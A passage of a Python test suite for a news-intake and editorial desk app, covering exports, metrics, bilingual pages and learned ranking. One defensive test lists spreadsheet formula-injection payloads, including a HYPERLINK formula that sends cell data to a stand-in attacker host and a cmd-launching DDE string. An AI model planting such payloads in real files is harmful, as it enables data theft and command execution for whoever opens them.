        re.search(r'<form class="actions bulk".*?</form>', page, re.S)[0])
    fake.history = [tg_edited(1, SPAM, posted, 10), fake.history[1]]
    crawl_tg(s, db, fake)
    vesti.run_workers(db, s, web.registry, workers=1, quiet=True)
    assert SPAM in card_of(web.get("/")[2], 1)      # on the desk again, in its new words

    def decisions():
        return [p["status"] for p in posts_of(db, "chan")]
    status, _, body = web.post("/posts/1/status", {**card, "status": "approved"})
    assert (status, body.strip()) == (409, CHANGED)
    status, _, body = web.post("/posts/1/status", {**card, "status": "approved"},
                               headers={"Accept": "application/json"})
    assert (status, body.strip()) == (409, CHANGED)
    status, _, asked = web.post("/posts/status", {**bulk, "status": "rejected"})
    assert status == 200 and "Reject these 2 posts?" in asked
    status, _, body = web.post("/posts/status", hidden_fields(asked))
    assert (status, body.strip()) == (409, CHANGED.replace("this post", "post 1"))
    status, _, body = web.post("/posts/status", {**bulk, "status": "rejected",
                                                 "confirmed": "1"},
                               headers={"Accept": "application/json"})
    assert status == 409 and decisions() == ["new", "new"]
    assert json.loads(web.get("/approved.json")[2])["items"] == []
    page = web.get("/")[2]                          # reloaded: the words it shows now
    status, _, _ = web.post("/posts/1/status", {**hidden_fields(card_of(page, 1)),
                                                "status": "approved"})
    assert status == 303 and decisions() == ["approved", "new"]
    bulk = hidden_fields(re.search(r'<form class="actions bulk".*?</form>', page, re.S)[0])
    status, _, _ = web.post("/posts/status", {**bulk, "status": "rejected", "confirmed": "1"})
    assert status == 303 and decisions() == ["rejected", "rejected"]
    # A script's decision names no words: decided as before.
    assert web.post("/posts/1/status", {"token": web.token(), "status": "new"})[0] == 303


@both
def test_cards_explain_scores_and_hold_the_stored_text(web):
    conn = web.db.conn()
    desk_post(conn, lwn(web), 1, text="<b>Full</b> text of the article.")
    conn.execute("UPDATE posts SET reason = 'A kernel release <b>matters</b>'")
    page = web.get("/")[2]
    card = re.search(r'<article class="post" id="post-1".*?</article>', page, re.S)[0]
    assert "keywords: linux, kernel" in card and '<span class="badge">Linux</span>' in card
    # A word another direction's keywords matched is told apart.
    conn.execute("UPDATE posts SET keywords = 'linux, orbit, kernel' WHERE id = 1")
    page = web.get("/")[2]
    card = re.search(r'<article class="post" id="post-1".*?</article>', page, re.S)[0]
    assert "keywords: linux, kernel · other directions&#x27; keywords: orbit" in card
    assert "why: A kernel release &lt;b&gt;matters&lt;/b&gt;" in card
    assert re.search(r"<details><summary[^>]*>Stored text</summary><div class=\"text\">"
                     r"&lt;b&gt;Full&lt;/b&gt; text of the article.</div></details>", card)
    buttons = re.findall(r'<button name="status" value="(\w+)"', card)
    assert buttons == ["approved", "rejected", "new"]            # the same places, always


def card_titled(page, title):
    """The HTML of the card whose title is this."""
    return next(card for card in page.split('<article class="post"')[1:]
                if f">{html.escape(title)}</a></h2>" in card)


@both
def test_undated_entries_say_so_and_keep_their_feeds_order(web, home, server):
    server.feed("/undated", rss(items(3, host=server.url)))
    hour_ago = time.strftime("%a, %d %b %Y %H:%M:%S GMT", time.gmtime(time.time() - 3600))
    server.feed("/dated", rss([{**items(1, start=9, host=server.url)[0], "date": hour_ago}]))
    write_sources(home / "sources.yaml", [rss_source("undated", server.url + "/undated"),
                                          rss_source("dated", server.url + "/dated")])
    conn = web.db.conn()
    vesti.sync_sources(conn, vesti.load_registry(str(home / "sources.yaml")))
    crawl(web.settings, web.db)
    conn.execute("UPDATE posts SET classified = 1, direction = 'linux', relevance = 7, interest = 4")
    posts = {r["title"]: r for r in stored_posts(conn).values()}
    page = web.get("/")[2]
    assert re.findall(r"<h2><a [^>]*>([^<]*)</a></h2>", page) == \
        ["Post number 0", "Post number 1", "Post number 2", "Post number 9"]
    russian = web.get("/?lang=ru")[2]
    for k in range(3):
        fetched = posts[f"Post number {k}"]["fetched_at"]
        assert f"undated · fetched {fetched} UTC" in card_titled(page, f"Post number {k}")
        assert f"без даты · получен {fetched} UTC" in card_titled(russian, f"Post number {k}")
    dated = card_titled(page, "Post number 9")
    assert f' · {posts["Post number 9"]["published_at"]} UTC' in dated and "undated" not in dated


@both
def test_the_worker_keeps_matched_keywords_and_the_llms_reason(home, closing):
    fake = closing(FakeOllama(reason="It is about a kernel release."))
    s, db, registry = worker_home(home, fake.url)
    add_posts(db.conn(), 1, text="The Linux kernel 7.0 is out.")
    add_posts(db.conn(), 1, start=1, text="Football results from the weekend.")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    rows = db.conn().execute("SELECT keywords, reason FROM posts ORDER BY id").fetchall()
    assert tuple(rows[0]) == ("kernel, linux", "It is about a kernel release.")
    assert tuple(rows[1]) == (None, None)


@both
def test_banners_say_why_nothing_is_classified(home, closing):
    write_sources(home / "sources.yaml", [rss_source("lwn", "https://lwn.net/headlines/rss")])
    dead_ollama = "http://127.0.0.1:9"
    s, db, registry = worker_home(home, dead_ollama)
    add_posts(db.conn(), 4, text="Linux kernel news.")
    w = closing(Web(home))
    w.settings = w.app.settings = s
    page = w.get("/")[2]
    assert "4 posts wait and no worker has run yet" in page
    vesti.run_workers(db, s, registry, workers=1, quiet=True)     # Ollama refuses
    assert 'vesti_llm_failures_total{reason="unreachable"} 3' in \
        vesti.metrics_text(db.conn())
    for path in ("/", "/crawlers"):
        page = w.get(path)[2]
        assert "Ollama has been unreachable since" in page and "127.0.0.1:9" in page
        assert "no worker has run" not in page                  # it ran a moment ago
    db.conn().execute("UPDATE meta SET value = ? WHERE key = 'worker_seen'", (ago(300),))
    assert "no worker has run for 5 minutes" in w.get("/")[2]
    keyword_only = s.replace(ollama_url="")
    vesti.run_workers(db, keyword_only, registry, workers=1, quiet=True)
    w.app.settings = keyword_only
    page = w.get("/crawlers")[2]
    assert "Keyword-only mode" in page and "unreachable" not in page


@both
def test_the_desk_says_how_many_posts_are_still_being_classified(web, monkeypatch):
    conn = web.db.conn()
    assert "being classified" not in web.get("/")[2]
    add_posts(conn, 1, source_id=lwn(web), start=100)
    empty = web.get("/")[2]
    assert card_ids(empty) == [] and "1 post is still being classified." in empty
    add_posts(conn, 2, source_id=lwn(web), start=200)
    conn.execute("UPDATE posts SET classified = -1, claimed_at = ? WHERE title = 'Post 201'",
                 (ago(0),))
    post = desk_post(conn, lwn(web), 1)
    page = web.get("/")[2]
    assert card_ids(page) == [post]
    assert page.index("3 posts are still being classified.") < page.index(f'id="post-{post}"')
    assert "3 поста ещё классифицируются." in web.get("/?lang=ru")[2]
    vesti.note_ollama_down(conn, "connection refused")
    web.app.settings = web.settings.replace(ollama_url="http://127.0.0.1:9")
    empty = web.get("/?q=nothing")[2]
    assert "Ollama cannot be reached, so 3 posts wait to be classified" in empty
    assert "still being classified" not in empty
    monkeypatch.setattr(vesti.DeskQuery, "waiting_cap", 2)  # a big queue is not counted whole
    assert "2+ posts wait to be classified" in web.get("/")[2]


def test_pages_speak_english_and_russian(web):
    desk_post(web.db.conn(), lwn(web), 1)
    english = web.get("/crawlers")[2]
    assert "Reset dead sources" in english and "Сбросить" not in english
    russian = web.get("/crawlers?lang=ru")[2]
    assert "Сбросить dead" in russian and '<html lang="ru">' in russian
    assert "Одобрить" in web.get("/", headers={"Accept-Language": "ru-RU,ru;q=0.9,en;q=0.5"})[2]
    assert "Approve" in web.get("/", headers={"Accept-Language": "de, en;q=0.5"})[2]
    web.app.settings = web.settings.replace(lang="en")
    assert "Approve" in web.get("/", headers={"Accept-Language": "ru"})[2]
    assert "Одобрить" in web.get("/?lang=ru", headers={"Accept-Language": "en"})[2]
    page = web.get("/?lang=ru")[2]
    links = [html.unescape(link) for link in re.findall(r'href="(/[^"]*)"', page)]
    assert all("lang=ru" in link for link in links if "lang=en" not in link)


def test_counts_on_the_pages_take_the_plural_form_of_their_number(web):
    conn = web.db.conn()
    desk_post(conn, lwn(web), 1, relevance=7)
    desk_post(conn, lwn(web), 2, relevance=1)
    assert "1 less relevant post is hidden." in web.get("/")[2]
    assert "1 менее релевантный пост скрыт." in web.get("/?lang=ru")[2]
    russian = {n: vesti.Page("ru", "t", {}).t("hidden_low", n=n)
               for n in (1, 2, 4, 5, 11, 12, 14, 21, 22, 25, 101, 111)}
    assert russian == {
        1: "1 менее релевантный пост скрыт.", 2: "2 менее релевантных поста скрыты.",
        4: "4 менее релевантных поста скрыты.", 5: "5 менее релевантных постов скрыто.",
        11: "11 менее релевантных постов скрыто.", 12: "12 менее релевантных постов скрыто.",
        14: "14 менее релевантных постов скрыто.", 21: "21 менее релевантный пост скрыт.",
        22: "22 менее релевантных поста скрыты.", 25: "25 менее релевантных постов скрыто.",
        101: "101 менее релевантный пост скрыт.", 111: "111 менее релевантных постов скрыто."}
    english = vesti.Page("en", "t", {})
    assert english.t("more_sources", n=1, count="1") == "+1 source" and \
        english.t("more_sources", n=1000, count="1000+") == "+1000+ sources"
    assert english.t("reject_shown", n=1) == "Reject the 1 post shown"
    assert english.t("banner_no_worker", n=1, when="yet").startswith("1 post waits and")


@both
def test_the_crawlers_page_lists_failing_and_dead_sources_first(home):
    write_sources(home / "sources.yaml", [rss_source(slug, f"https://{slug}.example/rss")
                                          for slug in ("aaa", "bbb", "ccc", "ddd")])
    s = make_settings(home, VESTI_WEB_PASSWORD="pw")
    registry, db = vesti.open_intake(s)
    db.conn().execute("UPDATE sources SET status = 'dead', error_count = 9 WHERE slug = 'ccc'")
    db.conn().execute("UPDATE sources SET error_count = 2, last_error = 'HTTP 500' "
                      "WHERE slug = 'ddd'")
    page = vesti.crawlers_page(db.conn(), vesti.Page("en", "t", {}), s)
    assert re.findall(r'<tr id="source-(\w+)">', page) == ["ddd", "ccc", "aaa", "bbb"]
    assert "UTC" in page


@both
def test_approved_posts_as_atom_and_json_feed(web):
    feedparser = pytest.importorskip("feedparser")
    conn = web.db.conn()
    for k in range(1, 5):
        desk_post(conn, lwn(web), k, title=f"Story <{k}> & co", direction="linux" if k < 4 else "space")
    for post, minutes in ((1, 30), (2, 10), (4, 20)):
        conn.execute("UPDATE posts SET status = 'approved', decided_at = ? WHERE id = ?",
                     (ago(60 * minutes), post))
    status, headers, body = web.get("/approved.atom")
    assert status == 200 and headers["Content-Type"].startswith("application/atom+xml")
    feed = feedparser.parse(body.encode("utf-8"))
    assert not feed.bozo, feed.bozo_exception
    assert [e.title for e in feed.entries] == ["Story <2> & co", "Story <4> & co", "Story <1> & co"]
    assert feed.entries[0].link == "http://x/2"
    linux = feedparser.parse(web.get("/approved.atom?direction=linux")[2].encode())
    assert [e.title for e in linux.entries] == ["Story <2> & co", "Story <1> & co"]
    for path in ("/approved.atom?direction=linuks", "/approved.json?direction=linuks"):
        status, _, body = web.get(path)           # a misspelt direction: not every direction's
        assert (status, body) == (400, "direction: none of linux, space ('linuks')\n"), path
    status, headers, body = web.get("/approved.json")
    feed = json.loads(body)
    assert feed["version"] == "https://jsonfeed.org/version/1.1" and feed["title"]
    assert [item["id"] for item in feed["items"]] == ["2", "4", "1"]
    for item in feed["items"]:
        assert isinstance(item["id"], str) and ("content_text" in item or "content_html" in item)
    assert web.get("/approved.json", auth=False)[0] == 401


@pytest.mark.slow
def test_export_writes_decided_posts_as_csv_json_and_atom(home):
    write_sources(home / "sources.yaml", [rss_source("lwn", "https://lwn.net/headlines/rss")])
    s = make_settings(home)
    _, db = vesti.open_intake(s)
    conn = db.conn()
    for k in range(1, 4):
        desk_post(conn, 1, k)
    conn.execute("UPDATE posts SET status = 'approved', decided_at = '2026-11-20 10:00:00' "
                 "WHERE id = 1")
    conn.execute("UPDATE posts SET status = 'approved', decided_at = '2026-11-29 10:00:00' "
                 "WHERE id = 2")
    result = cli("export", cwd=home)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["id"] for r in rows] == ["2", "1"] and rows[0]["decided_at"] == "2026-11-29 10:00:00"
    since = cli("export", "--since", "2026-11-25", "--format", "json", cwd=home)
    assert [i["id"] for i in json.loads(since.stdout)["items"]] == ["2"]
    every = cli("export", "--status", "any", "--format", "atom", cwd=home)
    assert every.stdout.count("<entry>") == 3
    bad = cli("export", "--since", "yesterday", cwd=home)
    assert bad.returncode == 2 and "--since" in bad.stderr


ATOM = "{http://www.w3.org/2005/Atom}"
VESTI_ATOM = "{urn:vesti}"


def atom_entries(text):
    """{post id: its <entry>} of an Atom document, parsed strictly."""
    root = ElementTree.fromstring(text.encode("utf-8"))
    assert root.tag == ATOM + "feed"
    return {int(e.find(ATOM + "id").text.rsplit(":", 1)[1]): e for e in root.findall(ATOM + "entry")}


def crawled_undated_post(web, home, server):
    """A post of a feed whose entries have no date, crawled, classified and approved."""
    server.feed("/undated", rss(items(1, host=server.url)))
    write_sources(home / "sources.yaml", [rss_source("undated", server.url + "/undated")])
    conn = web.db.conn()
    vesti.sync_sources(conn, vesti.load_registry(str(home / "sources.yaml")))
    crawl(web.settings, web.db)
    conn.execute("UPDATE posts SET classified = 1, direction = 'linux', relevance = 7, interest = 4")
    post = post_ids(conn)[0]
    web.post(f"/posts/{post}/status", {"token": web.token(), "status": "approved"})
    return post


@both
def test_exports_give_an_undated_post_no_publication_date(web, home, server):
    post = crawled_undated_post(web, home, server)
    decided_at = web.db.conn().execute("SELECT decided_at FROM posts").fetchone()[0]
    entry = atom_entries(web.get("/approved.atom")[2])[post]
    assert entry.find(ATOM + "published") is None
    assert entry.find(ATOM + "updated").text == vesti.iso_time(decided_at)
    item, = json.loads(web.get("/approved.json")[2])["items"]
    assert "date_published" not in item and item["date_modified"] == vesti.iso_time(decided_at)
    exported = cli("export", cwd=home)
    row, = csv.DictReader(io.StringIO(exported.stdout))
    assert (row["id"], row["published_at"]) == (str(post), "")


@pytest.mark.slow
@both
def test_atom_and_json_exports_say_who_decided_and_when(web, home):
    feedparser = pytest.importorskip("feedparser")
    conn = web.db.conn()
    for k in (1, 2, 3):
        desk_post(conn, lwn(web), k)
    web.post("/posts/1/status", {"token": web.token(), "status": "approved"})
    conn.execute("UPDATE posts SET status = 'approved', decided_at = '2026-11-29 10:00:00', "
                 "decided_by = 'olga' WHERE id = 2")
    decided = {r["id"]: (r["decided_by"], vesti.iso_time(r["decided_at"]))
               for r in conn.execute("SELECT * FROM posts WHERE status = 'approved'")}
    assert decided[1][0] == "admin"
    web_atom = web.get("/approved.atom")[2]
    assert not feedparser.parse(web_atom.encode("utf-8")).bozo
    exports = {"web": (web_atom, web.get("/approved.json")[2]),
               "cli": (cli("export", "--format", "atom", cwd=home).stdout,
                       cli("export", "--format", "json", cwd=home).stdout)}
    for where, (atom, json_feed) in exports.items():
        entries = atom_entries(atom)
        assert sorted(entries) == [1, 2], where
        for post, (editor, when) in decided.items():
            entry = entries[post]
            assert entry.find(f"{ATOM}contributor/{ATOM}name").text == editor, where
            assert entry.find(ATOM + "updated").text == when, where
            assert (entry.find(VESTI_ATOM + "decided_by").text,
                    entry.find(VESTI_ATOM + "decided_at").text) == (editor, when), where
        items = {int(i["id"]): i for i in json.loads(json_feed)["items"]}
        assert {post: (i["_vesti"]["decided_by"], i["_vesti"]["decided_at"])
                for post, i in items.items()} == decided, where
    every = cli("export", "--status", "any", "--format", "atom", cwd=home).stdout
    undecided = atom_entries(every)[3]
    assert undecided.find(ATOM + "contributor") is None
    assert undecided.find(VESTI_ATOM + "decided_by") is None


# Characters XML 1.0 forbids even escaped, each as a stranger's feed may carry it.
NOT_XML = ("\x01", "\x0b", "\x1b", "\ufffe")


@pytest.mark.slow
@both
def test_control_characters_in_titles_and_names_leave_atom_and_opml_well_formed(home, closing):
    feedparser = pytest.importorskip("feedparser")
    write_sources(home / "sources.yaml", [rss_source(
        "lwn", "https://lwn.net/headlines/rss", name="LWN\x01 \x1bnews\ufffe", direction="linux")])
    w = closing(Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="s3cret")))
    conn = w.db.conn()
    for k, bad in enumerate(NOT_XML, 1):
        desk_post(conn, lwn(w), k, title=f"Title{bad} {k}", status="approved")
        conn.execute("UPDATE posts SET summary = ?, decided_by = ? WHERE id = ?",
                     (f"Summary{bad}", f"olga{bad}", k))
    web_atom = w.get("/approved.atom")[2]
    cli_atom = cli("export", "--format", "atom", cwd=home).stdout
    for atom in (web_atom, cli_atom):
        entries = atom_entries(atom)                        # xml.etree reads it
        assert {e.find(ATOM + "title").text for e in entries.values()} == \
            {f"Title {k}" for k in range(1, 5)}
        assert {e.find(f"{ATOM}author/{ATOM}name").text for e in entries.values()} == {"LWN news"}
        feed = feedparser.parse(atom.encode("utf-8"))
        assert not feed.bozo, feed.bozo_exception
        assert len(feed.entries) == 4
    opml = cli("opml-export", cwd=home)
    root = ElementTree.fromstring(opml.stdout.encode("utf-8"))
    assert [o.get("text") for o in root.iter("outline") if o.get("xmlUrl")] == ["LWN news"]


@both
def test_csv_export_cells_that_a_spreadsheet_would_run_start_with_a_quote(home):
    write_sources(home / "sources.yaml", [rss_source("lwn", "https://lwn.net/headlines/rss")])
    _, db = vesti.open_intake(make_settings(home))
    conn = db.conn()
    titles = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0",
              "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "Plain title", "Prices; =1+1"]
    for k, title in enumerate(titles, 1):
        desk_post(conn, 1, k, title=title, status="approved")
    conn.execute("UPDATE posts SET decided_by = '=cmd', summary = '-1' WHERE id = 1")
    exported = vesti.csv_export(vesti.decided_posts(conn))      # what `export` writes
    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(exported, newline=""))}
    assert {k: rows[k]["title"] for k in rows} == {
        k: title if k > 6 else "'" + title for k, title in enumerate(titles, 1)}
    assert (rows[1]["decided_by"], rows[1]["summary"]) == ("'=cmd", "'-1")
    assert rows[2]["relevance"] == "7"
    assert '"Prices; =1+1"' in exported          # one cell where ; separates cells too


def metric_samples(text):
    parser = pytest.importorskip("prometheus_client.parser")
    families = {f.name: f for f in parser.text_string_to_metric_families(text)}
    return families, {(s.name, tuple(sorted(s.labels.items()))): s.value
                      for f in families.values() for s in f.samples}


@both
def test_metrics_speak_prometheus_and_count_what_happened(home, server, ollama, closing):
    server.feed("/feed", rss(items(3, host=server.url)))
    s, db = intake(home, [rss_source("lwn", server.url + "/feed", direction="linux"),
                          rss_source("gone", server.url + "/gone")], OLLAMA_URL=ollama.url)
    server.status("/gone", 500)
    crawl(s, db)
    crawl(s, db)                                       # the feed answers 304 this time
    vesti.run_workers(db, s, vesti.load_registry(s.sources), workers=2, quiet=True)
    db.conn().execute("UPDATE posts SET status = 'approved' WHERE id = 1")
    w = closing(Web(home, settings=s))
    assert w.get("/metrics", auth=False)[0] == 401
    status, headers, body = w.get("/metrics")
    assert status == 200 and headers["Content-Type"].startswith("text/plain; version=0.0.4")
    families, samples = metric_samples(body)
    assert families["vesti_llm_seconds"].type == "histogram"
    assert families["vesti_fetches"].type == "counter"
    assert samples[("vesti_queue_posts", (("state", "done_today"),))] == 3
    assert samples[("vesti_sources", (("crawler", "rss"), ("status", "alive")))] == 2
    fetched = {o: samples[("vesti_fetches_total", (("crawler", "rss"), ("outcome", o)))]
               for o in ("ok", "not_modified", "error", "deferred")}
    assert fetched == {"ok": 1, "not_modified": 1, "error": 2, "deferred": 0}
    assert samples[("vesti_new_posts_total", (("crawler", "rss"),))] == 3
    assert samples[("vesti_llm_calls_total", ())] == 3 == len(ollama.requests)
    assert samples[("vesti_llm_seconds_count", ())] == 3
    assert samples[("vesti_llm_seconds_bucket", (("le", "+Inf"),))] == 3
    assert samples[("vesti_classified_posts", (("status", "approved"),))] == 1
    restarted = vesti.metrics_text(vesti.Database(s.db).conn())   # counters outlive a restart
    assert metric_samples(restarted)[1][("vesti_llm_calls_total", ())] == 3


@both
def test_the_desk_as_json_pages_through_every_card_once_with_its_story(web):
    conn = web.db.conn()
    ids = [desk_post(conn, lwn(web), k, relevance=3 + k % 5) for k in range(1, 8)]
    conn.execute("UPDATE posts SET story_id = ? WHERE id IN (?, ?)", (ids[6], ids[6], ids[0]))
    assert web.get("/api/posts", auth=False)[0] == 401
    seen, after, pages = [], None, 0
    while True:
        status, headers, body = web.get("/api/posts?limit=3&sort=relevance"
                                        + (f"&after={after}" if after else ""))
        assert status == 200 and headers["Content-Type"].startswith("application/json")
        answer = json.loads(body)
        seen += answer["posts"]
        pages += 1
        after = answer.get("next")
        if after is None:
            break
        assert urllib.parse.quote(after, safe="") == after          # URL-safe as it is
    assert pages == 2 and len(seen) == 6                # the story's copy is not a card
    assert [p["relevance"] for p in seen] == sorted([p["relevance"] for p in seen], reverse=True)
    story = next(p for p in seen if p["id"] == ids[6])
    assert [c["id"] for c in story["story"]] == [ids[0]] and story["story_count"] == 1
    assert set(seen[0]) >= {"id", "url", "title", "source", "published_at", "direction",
                            "relevance", "interest", "likely", "status", "decided_by",
                            "decided_at", "story"}
    assert len(json.loads(web.get("/api/posts?limit=500")[2])["posts"]) == 6
    for more in ("501", "999999", "1000000"):       # more than is given: as many as are
        assert len(json.loads(web.get(f"/api/posts?limit={more}")[2])["posts"]) == 6
    for asked, named in (("after=garbage", "after"), ("limit=abc", "limit"), ("limit=0", "limit"),
                         ("direction=nope", "direction"), ("status=maybe", "status"),
                         ("sort=oldest", "sort"), ("min=11", "min")):
        status, _, body = web.get(f"/api/posts?{asked}")
        assert status == 400 and body.startswith(f"{named}:"), (asked, body)
    by_likely = json.loads(web.get("/api/posts?sort=likely")[2])["posts"]      # nothing learned
    assert [p["id"] for p in by_likely] == \
        [p["id"] for p in json.loads(web.get("/api/posts?sort=relevance")[2])["posts"]]


@both
def test_the_desk_sharpens_as_the_editor_decides_and_says_why(home, closing):
    write_sources(home / "sources.yaml", [rss_source("wire", "http://wire.example/feed")])
    web = closing(Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="s3cret", VESTI_LEARN_MIN=10)))
    conn = web.db.conn()
    wire = source_row(web.db, "wire")["id"]
    cards = [desk_post(conn, wire, k, text=text, title=text[:40], direction="space",
                       relevance=4) for k, text in enumerate(MISSIONS + GAMES)]
    later = desk_post(conn, wire, 50, direction="space", relevance=4,
                      text="Rocket League esports fans filled the arena for the game.",
                      title="Esports final")
    assert later in card_ids(web.get("/?direction=space")[2])
    for post, text in zip(cards, MISSIONS + GAMES):
        status, _, body = web.post(f"/posts/{post}/status",
                                   {"status": "approved" if text in MISSIONS else "rejected",
                                    "token": web.token()},
                                   headers={"Accept": "application/json"})
        assert status == 200, body
    desk = json.loads(web.get("/api/posts?direction=space&status=any&min=0")[2])["posts"]
    assert next(p for p in desk if p["id"] == later)["likely"] < 0.5
    assert later not in card_ids(web.get("/?direction=space")[2])   # below the floor now
    page = web.get("/?direction=space&min=0")[2]
    card = page[page.index(f'id="post-{later}"'):]
    card = card[:card.index("</article>")]
    assert re.search(r'likely approved <b class="likely">0\.\d\d</b>', card)
    assert re.search(r"weighed most: [^<]*(esports|league|game)", card)
    status, _, _ = web.post(f"/posts/{cards[0]}/status", {"status": "new", "token": web.token()},
                            headers={"Accept": "application/json"})
    web.get("/?direction=space")                # the next page counts the undo
    assert status == 200 and tuple(web.db.conn().execute(
        "SELECT approved, rejected FROM learners WHERE direction = 'space'").fetchone()) == (5, 6)


@both
def test_cards_from_before_the_model_are_judged_once_the_editor_pauses(home, closing):
    """Cards classified before a direction learned enough, older than the
    newest ones each decision judges again, get their likely too: the desk's
    floor then holds for them as for the rest."""
    write_sources(home / "sources.yaml", [rss_source("wire", "http://wire.example/feed")])
    web = closing(Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="s3cret", VESTI_LEARN_MIN=10)))
    rescorer = web.app.rescorer
    rescorer.first, rescorer.limit, rescorer.batch, rescorer.idle = 1, 2, 2, 0.1
    conn = web.db.conn()
    wire = source_row(web.db, "wire")["id"]
    cards = [desk_post(conn, wire, k, text=text, title=text[:40], direction="space",
                       relevance=4, minute=20 + k) for k, text in enumerate(MISSIONS + GAMES)]
    old = {text: desk_post(conn, wire, 100 + k, text=text, title=f"Old {k}", direction="space",
                           relevance=4, minute=1 + k)
           for k, text in enumerate(["Rocket League esports fans filled the arena for the game.",
                                     "The rocket carried a satellite for the space agency.",
                                     "Rocket League players won the game's ranked final.",
                                     "A space telescope took its first images from orbit."])}
    for k in range(2):
        desk_post(conn, wire, 200 + k, text=MISSIONS[k], title=f"New {k}", direction="space",
                  relevance=4, minute=60 + k)
    assert set(old.values()) <= set(card_ids(web.get("/?direction=space")[2]))
    for post, text in zip(cards, MISSIONS + GAMES):
        status, _, body = web.post(f"/posts/{post}/status",
                                   {"status": "approved" if text in MISSIONS else "rejected",
                                    "token": web.token()},
                                   headers={"Accept": "application/json"})
        assert status == 200, body
    web.get("/?direction=space")

    def judged():
        return web.db.conn().execute(
            "SELECT count(*) FROM posts WHERE status = 'new' AND likely IS NULL").fetchone()[0] == 0
    wait_for(judged, timeout=10)
    games = [old[t] for t in old if "League" in t]
    missions = [old[t] for t in old if "League" not in t]
    shown = card_ids(web.get("/?direction=space")[2])
    assert set(missions) <= set(shown) and not set(games) & set(shown)
    assert counts_match_posts(web.db.conn())


@both
def test_a_model_no_longer_used_takes_its_chance_off_every_card(home, closing):
    """An undo leaves the direction short of the decisions a model needs:
    once the editor pauses, no undecided card keeps a chance from it, the
    oldest ones included, and the desk is as keywords make it."""
    write_sources(home / "sources.yaml", [rss_source("wire", "http://wire.example/feed")])
    web = closing(Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="s3cret", VESTI_LEARN_MIN=10)))
    rescorer = web.app.rescorer
    rescorer.first, rescorer.limit, rescorer.batch, rescorer.idle = 1, 2, 2, 0.1
    conn = web.db.conn()
    wire = source_row(web.db, "wire")["id"]
    cards = [desk_post(conn, wire, k, text=text, title=text[:40], direction="space",
                       relevance=4, minute=20 + k) for k, text in enumerate(MISSIONS + GAMES)]
    undecided = [desk_post(conn, wire, 100 + k, text=text, title=f"Old {k}", direction="space",
                           relevance=relevance, minute=1 + k)
                 for k, (text, relevance) in enumerate(zip(MISSIONS + GAMES, [2, 4] * 10))]
    for post, text in zip(cards, MISSIONS + GAMES):
        web.post(f"/posts/{post}/status", {"status": "approved" if text in MISSIONS else "rejected",
                                           "token": web.token()}, headers={"Accept": "application/json"})
    web.get("/?direction=space")

    def chances():
        return web.db.conn().execute("SELECT count(*) FROM posts WHERE status = 'new' "
                                     "AND likely IS NOT NULL").fetchone()[0]
    wait_for(lambda: chances() == len(undecided), timeout=10)
    by_keywords = {post for post, relevance in zip(undecided, [2, 4] * 10) if relevance >= 3}
    assert set(card_ids(web.get("/?direction=space")[2])) != by_keywords
    games = cards[len(MISSIONS):len(MISSIONS) + 2]
    for game in games:          # 4 rejections left: short of a model
        status, _, _ = web.post(f"/posts/{game}/status", {"status": "new", "token": web.token()},
                                headers={"Accept": "application/json"})
        assert status == 200
    web.get("/?direction=space")
    wait_for(lambda: chances() == 0, timeout=10)
    assert set(card_ids(web.get("/?direction=space")[2])) == by_keywords | set(games)
    assert counts_match_posts(web.db.conn())


@both
def test_after_a_bulk_decision_every_card_is_judged_again_once_the_editor_pauses(home, closing):
    """A decision on many posts at once (or its undo) moves a model far: once
    the editor pauses, every undecided card of the direction is judged
    again, the oldest included, not only the newest."""
    write_sources(home / "sources.yaml", [rss_source("wire", "http://wire.example/feed")])
    web = closing(Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="s3cret",
                                                   VESTI_LEARN_MIN=10)))
    rescorer = web.app.rescorer
    rescorer.first, rescorer.limit, rescorer.batch, rescorer.idle, rescorer.whole = 1, 2, 3, 0.1, 6
    conn = web.db.conn()
    wire = source_row(web.db, "wire")["id"]
    decided_space(conn, wire, MISSIONS, GAMES)
    cards = [desk_post(conn, wire, 200 + k, text=f"{text} Later {k}.", direction="space",
                       minute=1 + k) for k, text in enumerate(MISSIONS + GAMES)]
    vesti.judge_every_card(conn, vesti.Learners(10).refresh(conn, now=True), "space")
    before = dict(conn.execute("SELECT id, likely FROM posts WHERE status = 'new'"))
    bulk = [desk_post(conn, wire, 300 + k, text=f"{MISSIONS[k]} Orbit {k}.", direction="space",
                      minute=100 + k) for k in range(6)]
    status, _, _ = web.post("/posts/status", {"ids": ",".join(map(str, bulk)), "status": "approved",
                                              "token": web.token()},
                            headers={"Accept": "application/json"})
    assert status == 200

    def judged():
        learners = vesti.Learners(10).refresh(web.db.conn(), now=True)
        return {row["id"]: (row["likely"], learners.likely(
                    "space", vesti.post_features(row["title"], row["text"][:vesti.LEARN_CHARS],
                                                 row["source_id"], row["id"]),
                    vesti.keyword_count(row["keywords"])))
                for row in web.db.conn().execute(
                    "SELECT id, title, text, source_id, keywords, likely FROM posts "
                    "WHERE status = 'new'")}
    wait_for(lambda: all(now == pytest.approx(wanted) for now, wanted in judged().values()),
             timeout=10)
    assert all(judged()[post][0] is not None for post in cards)
    assert sum(before[post] != judged()[post][0] for post in cards) > rescorer.limit


@both
def test_a_page_after_a_bulk_decision_counts_a_few_and_the_pause_counts_the_rest(home, closing):
    """Thousands of posts rejected at once would hold the next page while
    every decision is counted into the model: the page counts a few and
    answers, the rest are counted once the editor pauses."""
    write_sources(home / "sources.yaml", [rss_source("wire", "http://wire.example/feed")])
    web = closing(Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="s3cret",
                                                   VESTI_LEARN_MIN=10)))
    rescorer = web.app.rescorer
    rescorer.owed, rescorer.idle = 5, 1.5   # the pause: 1.5 s after the decision
    conn = web.db.conn()
    wire = source_row(web.db, "wire")["id"]
    posts = [desk_post(conn, wire, k, text=f"{GAMES[k % 6]} Round {k}.", direction="space",
                       relevance=4, minute=k) for k in range(30)]
    status, _, body = web.post("/posts/status", {"ids": ",".join(map(str, posts)),
                                                 "status": "rejected", "token": web.token()},
                               headers={"Accept": "application/json"})
    assert status == 200 and json.loads(body)["changed"] == 30

    def owed():
